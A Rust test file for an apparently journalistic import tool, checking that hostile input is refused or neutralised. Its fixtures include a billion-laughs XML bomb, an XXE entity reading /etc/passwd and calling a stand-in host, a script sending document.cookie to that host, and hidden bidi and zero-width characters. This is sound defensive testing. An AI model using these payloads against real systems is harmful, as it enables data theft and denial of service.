//! Broken and malicious input is refused with a message or read safely: never a panic,
//! never unbounded memory, never a network fetch or code run because of what a file
//! says. The fuzz targets under `fuzz/` search the same ground at random; these are the
//! attacks and accidents known by name.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "a test should fail loudly when a fixture or helper breaks"
)]

use factdesk::core::claims::candidates::document_candidates;
use factdesk::core::hidden_chars::{HiddenKind, find_hidden};
use factdesk::core::import::{ImportError, MAX_IMPORT_BYTES, import_bytes, import_pasted};
use factdesk::core::project::{FormatError, Project};
use jiff::Timestamp;

const NOW: Timestamp = Timestamp::UNIX_EPOCH;

fn import_error(bytes: &[u8], name: &str) -> String {
    match import_bytes(bytes, name, NOW) {
        Ok(document) => panic!("{name} was imported: {:?}", document.text),
        Err(err) => err.to_string(),
    }
}

#[test]
fn xml_entity_bombs_and_external_entities_are_refused_unexpanded() {
    let billion_laughs = r#"<?xml version="1.0"?>
<!DOCTYPE newsItem [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<newsItem><contentSet><inlineData>&lol9;</inlineData></contentSet></newsItem>"#;
    let external = r#"<?xml version="1.0"?>
<!DOCTYPE newsItem [
  <!ENTITY passwd SYSTEM "file:///etc/passwd">
  <!ENTITY remote SYSTEM "http://192.0.2.1/collect">
]>
<newsItem><contentSet><inlineData>&passwd;&remote;</inlineData></contentSet></newsItem>"#;
    for xml in [billion_laughs, external] {
        let message = import_error(xml.as_bytes(), "item.xml");
        assert!(message.contains("DTD"), "{message}");
        assert!(!message.contains("root:"), "{message}");
    }
}

#[test]
fn scripts_styles_and_event_handlers_in_a_page_are_never_text() {
    let page = r#"<html><head>
<script>document.location = "http://192.0.2.1/?" + document.cookie</script>
<style>p { display: none }</style>
</head><body><article>
<h1>Strikes hit Idlib market</h1>
<p>At least 15 people were killed in air strikes on a market, rescuers said.</p>
<img src="http://192.0.2.1/pixel.gif" onerror="alert(1)">
<iframe src="http://192.0.2.1/"></iframe>
<noscript><p>Enable scripts</p></noscript>
</article></body></html>"#;
    let document = import_bytes(page.as_bytes(), "page.html", NOW).unwrap();
    assert!(document.text.contains("At least 15 people were killed"));
    for foreign in ["document.location", "display: none", "alert", "192.0.2.1"] {
        assert!(!document.text.contains(foreign), "{foreign} in the text");
        assert!(
            document.set_aside.iter().all(|a| !a.text.contains(foreign)),
            "{foreign} set aside as if it were copy"
        );
    }
}

#[test]
fn hidden_characters_are_kept_as_sent_and_found() {
    let copy = "Maarat al-Numan\u{202E}namuN\u{202C} was hit; 60\u{200B}000 fled.\u{7}\n\
                Rescuers\u{2066} said\u{2069} 18 died.\u{E0041}\u{E0042}\n";
    let document = import_bytes(copy.as_bytes(), "wire.txt", NOW).unwrap();
    assert_eq!(document.text, copy, "the copy is kept exactly as sent");
    let kinds: Vec<HiddenKind> = find_hidden(&document.text).iter().map(|h| h.kind).collect();
    assert_eq!(
        kinds,
        [
            HiddenKind::Bidi,
            HiddenKind::Bidi,
            HiddenKind::ZeroWidth,
            HiddenKind::Control,
            HiddenKind::Bidi,
            HiddenKind::Bidi,
            HiddenKind::Tag,
            HiddenKind::Tag,
        ]
    );
    assert!(
        find_hidden(&document.label).is_empty(),
        "a label Factdesk makes has no hidden characters: {:?}",
        document.label
    );
}

#[test]
fn a_one_megabyte_line_is_imported_checked_and_saved() {
    let sentence = "Officials said 18 people were killed in Saraqeb on Tuesday, ";
    let line = sentence.repeat(1_000_000 / sentence.len());
    let document = import_bytes(line.as_bytes(), "one-line.txt", NOW).unwrap();
    assert_eq!(document.text, line);
    assert!(!document_candidates(&document).is_empty());
    let mut project = Project::new("One line", NOW);
    project.add_document(document, NOW);
    let reloaded = Project::from_json(&project.to_json()).unwrap();
    assert_eq!(reloaded, project);
}

#[test]
fn a_lone_surrogate_escape_in_a_project_is_refused_with_its_place() {
    let sample = std::fs::read_to_string("projects/idlib-2019.factdesk.json").unwrap();
    let broken = sample.replacen("\"title\": \"", "\"title\": \"\\ud800", 1);
    assert_ne!(broken, sample);
    let err = Project::from_json(&broken).unwrap_err();
    let FormatError::Json { line, .. } = &err else {
        panic!("{err}");
    };
    assert!(err.to_string().contains("hex escape"), "{err}");
    assert_eq!(*line, 4, "{err}");
}

#[test]
fn deeply_nested_json_is_refused_without_overflowing_the_stack() {
    let depth = 100_000;
    for version in [2, 4] {
        // Version 2 is read as free-form JSON first, to migrate it.
        let nested = format!(
            "{{\"format\": \"factdesk-project\", \"version\": {version}, \"extra\": {}{}}}",
            "[".repeat(depth),
            "]".repeat(depth)
        );
        let err = Project::from_json(&nested).unwrap_err();
        assert!(
            matches!(err, FormatError::Json { line: 1, .. }),
            "version {version}: {err}"
        );
    }

    let ninjs = format!("{{\"uri\": \"urn:x\", \"body_text\": {}", "[".repeat(depth));
    let message = import_error(ninjs.as_bytes(), "item.json");
    assert!(message.contains("recursion"), "{message}");
}

#[test]
fn a_paste_larger_than_the_limit_is_refused_before_it_is_read() {
    let huge = "a".repeat(usize::try_from(MAX_IMPORT_BYTES).unwrap() + 1);
    let err = import_pasted(&huge, None, NOW).unwrap_err();
    assert!(matches!(err, ImportError::TooLarge { .. }), "{err}");
    assert!(err.to_string().contains("the clipboard"), "{err}");
}
